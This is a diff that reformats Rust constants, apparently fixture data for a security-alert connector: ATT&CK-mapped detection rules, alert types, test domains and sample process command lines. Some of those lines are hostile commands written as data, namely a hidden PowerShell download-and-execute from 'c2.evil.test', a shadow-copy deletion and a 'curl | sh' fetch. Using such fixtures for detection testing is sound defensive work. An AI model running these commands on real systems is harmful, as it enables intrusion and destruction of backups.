@@ -15,18 +15,8 @@ pub(crate) struct Rule {
     pub(crate) technique: &'static str,
 }
 
-const fn rule(
-    name: &'static str,
-    kind: &'static str,
-    tactic: &'static str,
-    technique: &'static str,
-) -> Rule {
-    Rule {
-        name,
-        kind,
-        tactic,
-        technique,
-    }
+const fn rule(name: &'static str, kind: &'static str, tactic: &'static str, technique: &'static str) -> Rule {
+    Rule { name, kind, tactic, technique }
 }
 
 /// Rules, over the tactics a connector maps.
@@ -37,106 +27,29 @@ pub(crate) const RULES: [Rule; 14] = [
         "Credential Access",
         "T1110",
     ),
-    rule(
-        "Suspicious Process - PowerShell Downloads Content",
-        "Attacker Tool",
-        "Execution",
-        "T1059.001",
-    ),
-    rule(
-        "Attacker Technique - LSASS Memory Read",
-        "Attacker Technique",
-        "Credential Access",
-        "T1003.001",
-    ),
-    rule(
-        "Lateral Movement - PsExec Service Created",
-        "Lateral Movement",
-        "Lateral Movement",
-        "T1021.002",
-    ),
-    rule(
-        "Suspicious DNS Request - Known C2 Domain",
-        "Threat Intelligence",
-        "Command and Control",
-        "T1071.004",
-    ),
-    rule(
-        "Malicious Hash On Asset",
-        "Malicious Hash On Asset",
-        "Execution",
-        "T1204.002",
-    ),
-    rule(
-        "Phishing - Link Followed To Lookalike Domain",
-        "Spear Phishing URL Detected",
-        "Initial Access",
-        "T1566.002",
-    ),
-    rule(
-        "Suspicious Ingress From Anonymous Proxy",
-        "Ingress From Tor",
-        "Initial Access",
-        "T1078",
-    ),
-    rule(
-        "Persistence - Run Key Added By Script",
-        "Attacker Technique",
-        "Persistence",
-        "T1547.001",
-    ),
-    rule(
-        "Exfiltration - Large Upload To File Sharing",
-        "Data Exfiltration",
-        "Exfiltration",
-        "T1567.002",
-    ),
-    rule(
-        "Defense Evasion - Event Log Cleared",
-        "Log Deletion",
-        "Defense Evasion",
-        "T1070.001",
-    ),
-    rule(
-        "Impact - Shadow Copies Deleted",
-        "Ransomware",
-        "Impact",
-        "T1490",
-    ),
-    rule(
-        "Discovery - Port Scan From Endpoint",
-        "Network Scan",
-        "Discovery",
-        "T1046",
-    ),
-    rule(
-        "Privilege Escalation - Token Stolen",
-        "Attacker Technique",
-        "Privilege Escalation",
-        "T1134",
-    ),
+    rule("Suspicious Process - PowerShell Downloads Content", "Attacker Tool", "Execution", "T1059.001"),
+    rule("Attacker Technique - LSASS Memory Read", "Attacker Technique", "Credential Access", "T1003.001"),
+    rule("Lateral Movement - PsExec Service Created", "Lateral Movement", "Lateral Movement", "T1021.002"),
+    rule("Suspicious DNS Request - Known C2 Domain", "Threat Intelligence", "Command and Control", "T1071.004"),
+    rule("Malicious Hash On Asset", "Malicious Hash On Asset", "Execution", "T1204.002"),
+    rule("Phishing - Link Followed To Lookalike Domain", "Spear Phishing URL Detected", "Initial Access", "T1566.002"),
+    rule("Suspicious Ingress From Anonymous Proxy", "Ingress From Tor", "Initial Access", "T1078"),
+    rule("Persistence - Run Key Added By Script", "Attacker Technique", "Persistence", "T1547.001"),
+    rule("Exfiltration - Large Upload To File Sharing", "Data Exfiltration", "Exfiltration", "T1567.002"),
+    rule("Defense Evasion - Event Log Cleared", "Log Deletion", "Defense Evasion", "T1070.001"),
+    rule("Impact - Shadow Copies Deleted", "Ransomware", "Impact", "T1490"),
+    rule("Discovery - Port Scan From Endpoint", "Network Scan", "Discovery", "T1046"),
+    rule("Privilege Escalation - Token Stolen", "Attacker Technique", "Privilege Escalation", "T1134"),
 ];
 
 /// Legacy user-behaviour alert types with their description.
 pub(crate) const BEHAVIOURS: [(&str, &str); 6] = [
     ("Account Leak", "Account credentials were leaked"),
-    (
-        "Multiple Country Authentications",
-        "A user logged in from too many countries in a short time",
-    ),
-    (
-        "Ingress From Disabled Account",
-        "A disabled account reached a cloud service",
-    ),
+    ("Multiple Country Authentications", "A user logged in from too many countries in a short time"),
+    ("Ingress From Disabled Account", "A disabled account reached a cloud service"),
     ("Honeypot Access", "Someone connected to a honeypot"),
-    (
-        "First Ingress Authentication From Country",
-        "A user logged in from a country for the first time",
-    ),
-    (
-        "Impersonation - Domain Account",
-        "A user authenticated as somebody else",
-    ),
+    ("First Ingress Authentication From Country", "A user logged in from a country for the first time"),
+    ("Impersonation - Domain Account", "A user authenticated as somebody else"),
 ];
 
 /// Titles of investigations that are not named after a rule.
@@ -208,13 +121,8 @@ pub(crate) const ADDRESSES: [&str; 8] = [
 ];
 
 /// Domains.
-pub(crate) const DOMAINS: [&str; 5] = [
-    "login-example.test",
-    "cdn.bad-updates.test",
-    "files.share.example",
-    "c2.evil.test",
-    "xn--mnchen-3ya.example",
-];
+pub(crate) const DOMAINS: [&str; 5] =
+    ["login-example.test", "cdn.bad-updates.test", "files.share.example", "c2.evil.test", "xn--mnchen-3ya.example"];
 
 /// Processes: image path and command line.
 pub(crate) const PROCESSES: [(&str, &str); 5] = [
@@ -222,14 +130,8 @@ pub(crate) const PROCESSES: [(&str, &str); 5] = [
         r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
         r#"powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://c2.evil.test/a')""#,
     ),
-    (
-        r"C:\Windows\System32\cmd.exe",
-        r#"cmd.exe /c "vssadmin delete shadows /all /quiet""#,
-    ),
-    (
-        r"C:\Users\jdoe\AppData\Local\Temp\invoice.pdf.exe",
-        "invoice.pdf.exe --silent",
-    ),
+    (r"C:\Windows\System32\cmd.exe", r#"cmd.exe /c "vssadmin delete shadows /all /quiet""#),
+    (r"C:\Users\jdoe\AppData\Local\Temp\invoice.pdf.exe", "invoice.pdf.exe --silent"),
     ("/usr/bin/curl", "curl -s http://198.51.100.23/x.sh | sh"),
     ("/opt/日本/ツール", "ツール --password=hunter2"),
 ];
